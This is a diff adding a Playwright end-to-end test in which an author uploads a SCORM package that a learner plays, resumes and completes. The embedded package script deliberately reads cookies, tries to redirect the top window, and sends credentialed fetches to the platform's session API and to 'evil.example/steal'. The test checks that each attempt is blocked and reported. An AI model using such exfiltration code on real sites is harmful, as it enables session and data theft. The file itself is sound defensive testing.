@@ -1,0 +1,145 @@
+import { expect, type Page } from '@playwright/test';
+import type { AuthoredTopic } from '#contract/learning/authoring.ts';
+import type { Program, ProgramPage } from '#contract/learning/programs.ts';
+import { apiAs } from '#test/journeys/support/api.ts';
+import { ADMIN, LEARNER } from '#test/journeys/support/logins.ts';
+import { accessibilityViolations } from '#test/journeys/support/pageChecks.ts';
+import { signIn } from '#test/journeys/support/people.ts';
+import { type RunningServer, startServer } from '#test/journeys/support/startServer.ts';
+import { test } from '#test/journeys/support/test.ts';
+import { manifestOf, zipOf } from '#test/server/packages/packageFiles.ts';
+
+let server: RunningServer;
+test.beforeAll(async () => {
+  server = await startServer();
+});
+test.afterAll(() => server.dispose());
+
+/** A package that works, and also tries what a hostile package would try. */
+const PAGE = `<!doctype html>
+<html lang="en"><title>Difficult feedback</title>
+<h1>Difficult feedback</h1>
+<ul id="log"></ul>
+<button id="next">Next page</button> <button id="finish">Finish</button>
+<script>
+const api = parent.API;
+const embedder = parent.document.documentElement.dataset.embedder;
+const log = (text) => { log.list.append(Object.assign(document.createElement('li'), { textContent: text })); };
+log.list = document.getElementById('log');
+api.LMSInitialize('');
+log('position: ' + (api.LMSGetValue('cmi.suspend_data') || 'none'));
+log('cookies: ' + (document.cookie || 'none'));
+log('70 kB: ' + api.LMSSetValue('cmi.suspend_data', 'x'.repeat(70000)));
+try { top.location.href = 'https://evil.example/'; log('top window: open'); } catch { log('top window: blocked'); }
+for (const [name, url] of [['api', embedder + '/api/session'], ['external', 'https://evil.example/steal']])
+  fetch(url, { credentials: 'include' }).then(() => log(name + ': open'), () => log(name + ': blocked'));
+document.getElementById('next').onclick = () => {
+  api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
+  api.LMSSetValue('cmi.suspend_data', 'page 2');
+  api.LMSCommit('');
+};
+document.getElementById('finish').onclick = () => {
+  api.LMSSetValue('cmi.core.score.raw', '84');
+  api.LMSSetValue('cmi.core.lesson_status', 'passed');
+  api.LMSFinish('');
+};
+</script></html>`;
+
+/** A selected topic of the demo learner that is not completed. */
+async function findTopic() {
+  const learner = await apiAs(server.url, LEARNER);
+  const { data } = (await learner.get<ProgramPage>('/api/programs')).body;
+  for (const { programId } of data) {
+    const { topics } = (await learner.get<Program>(`/api/programs/${programId}`)).body;
+    const topic = topics.find(({ state }) => state === 'in_progress' || state === 'selected');
+    if (topic) return { learner, programId, topicId: topic.topicId, title: topic.title };
+  }
+  throw new Error('The demo learner has no open topic');
+}
+
+const button = (page: Page, name: string) => page.getByRole('button', { name, exact: true });
+
+test('an author uploads a package, and a learner plays, resumes and completes it', async ({ browser }) => {
+  const { learner, programId, topicId } = await findTopic();
+  const author = await signIn(await browser.newContext(), server.url, ADMIN, `/content/topics/${topicId}`);
+
+  await test.step('the author adds a package step and sees the report', async () => {
+    await button(author, 'Add step').click();
+    await author.getByRole('menuitem', { name: /^Package/ }).click();
+    await author.getByLabel('Step title').fill('Play the course');
+    await author.getByRole('textbox', { name: 'Text', exact: true }).fill('It takes 5 minutes.');
+    const upload = async (name: string, label: string) =>
+      author.getByLabel(`${label}: file`).setInputFiles({
+        name,
+        mimeType: 'application/zip',
+        buffer: await zipOf({
+          'imsmanifest.xml': manifestOf('scorm12', { title: 'Difficult feedback' }),
+          ...(name === 'course.zip' && { 'index.html': PAGE }),
+        }),
+      });
+    await upload('broken.zip', 'Upload package');
+    await expect(author.getByText('“broken.zip” was refused')).toBeVisible();
+    await upload('course.zip', 'Upload package');
+    await expect(author.getByText('SCORM 1.2', { exact: true })).toBeVisible();
+    await expect(author.getByText('evil.example. All are blocked.')).toBeVisible();
+    await button(author, 'Publish').click();
+    await author.getByRole('dialog').getByRole('textbox').fill('With a course');
+    await author
+      .getByRole('dialog')
+      .getByRole('button', { name: /^Publish/ })
+      .click();
+    await expect(author.getByText(/is published\./)).toBeVisible();
+  });
+
+  const admin = await apiAs(server.url, ADMIN);
+  const { versions } = (await admin.get<AuthoredTopic>(`/api/topics/${topicId}`)).body;
+  await learner.put(`/api/programs/${programId}/topics/${topicId}/version`, { version: versions[0]?.n });
+  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
+  const page = await signIn(context, server.url, LEARNER, `/program/${programId}`);
+  const player = page.getByRole('dialog', { name: 'Difficult feedback' });
+  const course = page.frameLocator('iframe[title="Difficult feedback"]').frameLocator('iframe');
+  const openStep = async (name: string) => {
+    const step = page.getByRole('button', { name: 'Play the course', exact: true });
+    if ((await step.getAttribute('aria-expanded')) !== 'true') await step.click();
+    await button(page, name).click();
+  };
+
+  await test.step('the package plays on another host and reaches nothing', async () => {
+    await openStep('Start package');
+    await expect(course.getByRole('listitem')).toHaveText([
+      'position: none',
+      'cookies: none',
+      '70 kB: false',
+      'top window: blocked',
+      /^(api|external): blocked$/,
+      /^(api|external): blocked$/,
+    ]);
+    await expect(player.getByText(/tried to store a position of more than 64 kB/)).toBeVisible();
+    expect(page.url()).toContain(server.url);
+    await course.getByRole('button', { name: 'Next page' }).click();
+    await expect(player.getByRole('status')).toHaveText('Saved');
+    expect(await accessibilityViolations(page)).toEqual([]);
+  });
+
+  await test.step('it resumes after a reload and completes the step', async () => {
+    await page.reload();
+    await openStep('Continue package');
+    await expect(course.getByRole('listitem').first()).toHaveText('position: page 2');
+    await course.getByRole('button', { name: 'Finish' }).focus();
+    await page.keyboard.press('Enter');
+    await expect(player.getByRole('status')).toHaveText('The package has ended. You can exit.');
+    await page.keyboard.press('Tab');
+    await expect(button(page, 'End of package: exit')).toBeFocused();
+    await page.keyboard.press('Enter');
+    await expect(player).toHaveCount(0);
+    await expect(page.getByText('Attempt 1: Passed · Score 84 of 100')).toBeVisible();
+    await expect(button(page, 'Open again')).toBeVisible();
+  });
+
+  await test.step('the author sees what was blocked', async () => {
+    await author.reload();
+    await author.getByRole('button', { name: 'Play the course', exact: true }).click();
+    await expect(author.getByText(/Browsers of learners have blocked: .*evil\.example/)).toBeVisible();
+    await expect(author.getByText(/a position of 70 kB/)).toBeVisible();
+  });
+});
